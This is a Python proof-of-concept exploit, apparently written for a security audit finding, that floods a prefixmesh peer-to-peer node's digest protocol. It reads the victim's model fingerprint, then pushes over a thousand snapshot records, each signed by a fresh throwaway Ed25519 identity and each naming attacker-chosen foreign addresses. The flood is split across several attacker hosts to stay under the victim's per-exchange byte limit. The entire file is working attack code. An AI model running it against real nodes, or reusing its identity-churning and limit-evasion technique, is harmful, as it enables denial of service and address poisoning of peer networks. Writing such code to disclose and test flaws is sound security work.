"""Digest flood with foreign addresses (issue 14, finding 1), as an outsider would write it.

A plain py-libp2p host (Noise only, Yamux) opens ``/prefixmesh/digest/1.0.0`` to the
victim and runs the documented 3-message exchange as the initiator:

1. send ``[1, []]`` (an empty summary), length-prefixed (4-byte big-endian length);
2. read ``[2, records, summary, wants]``; the victim's own snapshot record tells us its
   model fingerprint (body key ``m``);
3. send ``[3, records]``: ``n`` snapshot records, each signed by a fresh Ed25519 key
   (``cryptography``), each naming the same foreign addresses.

Records are built by hand from the documented format (overlay/core/digest.py docstring):
envelope ``[1, body, public_key, signature]``, signature over
``b"prefixmesh/digest-record/v1\\x00" + body``, body a canonical CBOR map with one-letter
keys; the origin is the identity-multihash peer id ``00 24 08 01 12 20 || public_key``.
Nothing here imports prefixmesh.
"""

from __future__ import annotations

import struct
import time

import cbor2
import trio
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

DIGEST_PROTOCOL = "/prefixmesh/digest/1.0.0"
LABEL = b"prefixmesh/digest-record/v1\x00"
PEER_ID_PREFIX = b"\x00\x24\x08\x01\x12\x20"  # identity multihash of an Ed25519 key


def signed_snapshot(model_fp: bytes, addrs: list[str], now: float) -> bytes:
    key = Ed25519PrivateKey.generate()
    pub = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    body = cbor2.dumps({
        "o": PEER_ID_PREFIX + pub, "e": int(now * 1000), "s": 0,
        "i": float(now), "x": float(now + 600.0), "m": model_fp, "k": 1, "n": [],
        "l": [0, 0, 0.0, 0.0], "c": 1 << 30, "u": 0, "a": list(addrs),
    }, canonical=True)
    return cbor2.dumps([1, body, pub, key.sign(LABEL + body)], canonical=True)


async def _send(stream, payload: bytes) -> None:
    await stream.write(struct.pack(">I", len(payload)) + payload)


async def _receive(stream) -> bytes:
    buf = b""
    while len(buf) < 4 or len(buf) < 4 + struct.unpack(">I", buf[:4])[0]:
        buf += await stream.read(65536)
    n = struct.unpack(">I", buf[:4])[0]
    return buf[4:4 + n]


def _model_of(reply: bytes, victim_peer: bytes) -> bytes:
    msg = cbor2.loads(reply)
    assert msg[0] == 2, f"expected a reply message, got type {msg[0]}"
    for raw in msg[1]:
        _, body, _, _ = cbor2.loads(raw)
        fields = cbor2.loads(body)
        if fields["o"] == victim_peer:
            return fields["m"]
    raise AssertionError("the victim's reply carried no record of its own")


def make_host():
    """A plain py-libp2p host with Noise only, fresh identity."""
    from libp2p import new_host
    from libp2p.crypto.ed25519 import create_new_key_pair
    from libp2p.crypto.x25519 import create_new_key_pair as x25519_pair
    from libp2p.custom_types import TProtocol
    from libp2p.security.noise.transport import PROTOCOL_ID, Transport

    kp = create_new_key_pair()
    noise = Transport(kp, noise_privkey=x25519_pair().private_key)
    return new_host(key_pair=kp, sec_opt={TProtocol(PROTOCOL_ID): noise})


async def flood(victim_addr: str, foreign_addrs: list[str], n_records: int = 1100,
                identities: int = 8) -> dict:
    """``n_records`` fresh-identity snapshots pushed by ``identities`` attacker hosts, one
    exchange each (each message stays within the victim's 64 KiB per-exchange byte
    budget, which a single 480 KB message would exceed: the victim drops such a message
    unverified); returns figures."""
    out = {"records": 0, "bytes": 0, "send_s": 0.0}
    per = -(-n_records // identities)
    for i in range(identities):
        one = await flood_once(victim_addr, foreign_addrs, min(per, n_records - i * per))
        for k in out:
            out[k] += one[k]
    return out


async def flood_once(victim_addr: str, foreign_addrs: list[str], n_records: int) -> dict:
    """One exchange pushing ``n_records`` fresh-identity snapshots; returns figures."""
    import multiaddr
    from libp2p.custom_types import TProtocol
    from libp2p.peer.peerinfo import info_from_p2p_addr

    host = make_host()
    info = info_from_p2p_addr(multiaddr.Multiaddr(victim_addr))
    async with host.run(listen_addrs=[multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]):
        with trio.fail_after(20):
            await host.connect(info)
            stream = await host.new_stream(info.peer_id, [TProtocol(DIGEST_PROTOCOL)])
            await _send(stream, cbor2.dumps([1, []], canonical=True))
            model_fp = _model_of(await _receive(stream), info.peer_id.to_bytes())
            now = time.time()
            raws = [signed_snapshot(model_fp, foreign_addrs, now) for _ in range(n_records)]
            payload = cbor2.dumps([3, raws], canonical=True)
            t0 = time.monotonic()
            await _send(stream, payload)
            sent_s = time.monotonic() - t0
            await trio.sleep(0.5)
            await stream.close()
    return {"records": n_records, "bytes": len(payload), "send_s": sent_s}
